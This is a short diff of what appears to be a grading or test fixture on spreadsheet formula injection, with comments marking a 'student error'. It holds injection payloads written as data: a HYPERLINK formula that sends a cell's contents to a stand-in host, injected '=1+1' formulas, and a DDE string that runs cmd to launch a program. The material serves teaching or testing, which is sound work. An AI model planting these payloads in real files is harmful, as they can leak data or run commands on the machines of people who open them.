@@ -1,10 +1,10 @@
 # why: a spreadsheet computes what begins like a formula
 # points: 0
 # verdict: student error
-# name: =HYPERLINK("http://example.org?"&A1,"click")
+# name: =HYPERLINK("http://example.org?"&A1,"click");=1+1
 
 # %%
-total = "=1+1"
+total = "=1+1;=1+1"
 print("@SUM(1+1)*cmd|' /C calc'!A0")
 
 # %%
